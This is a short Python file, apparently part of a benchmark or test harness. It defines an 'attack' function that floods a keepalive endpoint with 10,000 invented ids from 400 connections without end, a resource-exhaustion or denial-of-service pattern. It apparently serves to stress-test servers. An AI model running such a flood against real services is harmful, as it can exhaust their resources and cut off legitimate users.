"""Keeps 10 000 unknown ids alive from 400 connections, without an end."""

import json

from compare import callers


def attack(target):
    ids = [f"{number:026}" for number in range(10_000)]
    body = json.dumps({"ids": ids}, separators=(",", ":")).encode()
    return callers.repeat(target, "POST", "/v1/pools/default/keepalive", body)
